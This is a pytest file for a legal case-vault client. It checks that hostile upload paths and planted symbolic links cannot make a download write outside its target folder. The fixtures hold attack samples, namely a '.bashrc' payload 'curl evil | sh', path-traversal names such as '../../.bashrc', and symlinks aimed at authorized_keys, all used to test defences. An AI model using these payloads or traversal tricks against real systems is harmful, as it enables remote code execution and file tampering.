"""T23, folder paths: a hostile uploader (or a server replaying a record) names a path that
climbs out of the directory a lawyer downloads the case into, or plants a symbolic link there.

The uploader is a real editor of the case: their file has a valid signed manifest, a real
ciphertext and a file key wrapped under the case key; only the metadata path is hostile, sealed
directly with the client's own AEAD as a modified client would. The lawyer runs the real
`casevault get --all -o DIR` against a real uvicorn.
"""

from __future__ import annotations

import os

import pytest
from attack_kit import PASSPHRASE
from attack_kit import plant_upload as _plant

from client.cli.commands import main
from client.cli.exits import EXIT_ERROR, EXIT_INTEGRITY
from client.errors import VaultError
from client.files.folders import make_parents, place


@pytest.fixture
def hostile_case(lawyer, tmp_path):
    """Alice's case with one honest file; Bob, an editor, is the hostile uploader."""
    alice, bob = lawyer("alice"), lawyer("bob")
    case_id = alice.create_case("R v Halloran")
    alice.share(case_id, "bob", role="editor")
    doc = tmp_path / "brief.txt"
    doc.write_bytes(b"honest brief")
    alice.put(case_id, [doc], to="Pleadings")
    return alice, bob, case_id


def _cli(monkeypatch, vault, live_server, *args: str) -> int:
    """The real `casevault` command, in this process, as the lawyer whose home `vault` is."""
    monkeypatch.setenv("CASEVAULT_HOME", str(vault.keystore.home))
    monkeypatch.setenv("CASEVAULT_SERVER", live_server)
    monkeypatch.setenv("CASEVAULT_PASSPHRASE", PASSPHRASE)
    return main(list(args))


def _outside(desk, out) -> dict[str, bytes]:
    """Every file on the lawyer's desk (the folders around `out`) but those inside `out`."""
    return {str(p): p.read_bytes() for p in sorted(desk.rglob("*"))
            if p.is_file() and out not in p.parents}


@pytest.mark.parametrize("hostile", ["../../.bashrc", "/tmp/casevault-T23/.bashrc",
                                     "Evidence/../../../.bashrc", "C:/Users/x/.bashrc"])
def test_T23_hostile_metadata_path_is_not_written(hostile_case, live_server, tmp_path,
                                                 monkeypatch, capsys, hostile):
    alice, bob, case_id = hostile_case
    planted = _plant(bob, case_id, b"curl evil | sh\n", name=".bashrc", path=hostile)
    desk = tmp_path / "desk"
    out = desk / "work" / "case"  # "../../.bashrc" from here is desk/.bashrc
    (desk / "work").mkdir(parents=True)
    (desk / "work" / "notes.txt").write_bytes(b"the lawyer's own notes")
    before = _outside(desk, out)

    code = _cli(monkeypatch, alice, live_server, "get", case_id, "--all", "-o", str(out))

    assert code == EXIT_INTEGRITY
    err = capsys.readouterr().err
    assert f"file {planted} failed verification" in err
    # The honest file arrived; nothing else exists, inside or outside the directory.
    assert [p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file()] == [
        "Pleadings/brief.txt"]
    assert _outside(desk, out) == before
    assert not (desk / ".bashrc").exists() and not (tmp_path / ".bashrc").exists()
    assert not os.path.exists("/tmp/casevault-T23/.bashrc")


def test_T23_older_record_with_a_climbing_name_is_not_written(hostile_case, live_server,
                                                              tmp_path, monkeypatch, capsys):
    # A record without `path` (as written before folders) is valid, but its name must still
    # pass the path rules before it is joined under a directory (SPEC 6.5.2).
    alice, bob, case_id = hostile_case
    planted = _plant(bob, case_id, b"evil", name="../../.profile")
    out = tmp_path / "work" / "case"
    code = _cli(monkeypatch, alice, live_server, "get", case_id, "--all", "-o", str(out))
    assert code == EXIT_ERROR
    assert planted in capsys.readouterr().err
    assert not (tmp_path / ".profile").exists() and not (tmp_path / "work" / ".profile").exists()
    assert (out / "Pleadings" / "brief.txt").read_bytes() == b"honest brief"


def test_T23_symlink_planted_in_the_output_directory_is_not_followed(
        hostile_case, live_server, tmp_path, monkeypatch, capsys):
    alice, _bob, case_id = hostile_case
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    out = tmp_path / "out"
    out.mkdir()
    # A folder of the case replaced by a link to another place on the disk...
    (out / "Pleadings").symlink_to(outside, target_is_directory=True)
    code = _cli(monkeypatch, alice, live_server, "get", case_id, "--all", "-o", str(out))
    assert code == EXIT_ERROR
    assert "symbolic link; it is not followed" in capsys.readouterr().err
    assert list(outside.iterdir()) == []

    # ...or the file itself a link to one the lawyer owns: not written through, not replaced.
    (out / "Pleadings").unlink()
    (out / "Pleadings").mkdir()
    target = outside / "authorized_keys"
    target.write_bytes(b"ssh-ed25519 AAAA lawyer")
    (out / "Pleadings" / "brief.txt").symlink_to(target)
    code = _cli(monkeypatch, alice, live_server, "get", case_id, "--all", "-o", str(out))
    assert code == EXIT_ERROR
    assert target.read_bytes() == b"ssh-ed25519 AAAA lawyer"
    assert (out / "Pleadings" / "brief.txt").is_symlink()


def test_T23_symlink_planted_between_planning_and_writing_is_refused(tmp_path):
    # The plan found no link; one appears before the folders are made. The write refuses it,
    # and the last check (resolve, compare with the root) would refuse any way out.
    out, outside = tmp_path / "out", tmp_path / "elsewhere"
    out.mkdir()
    outside.mkdir()
    planned = place(out, "Evidence/photos/a.jpg", size=1, sha256="0" * 64)
    assert planned.problems == []
    (out / "Evidence").symlink_to(outside, target_is_directory=True)
    with pytest.raises(VaultError, match="not a plain folder"):
        make_parents(planned)
    assert list(outside.iterdir()) == []
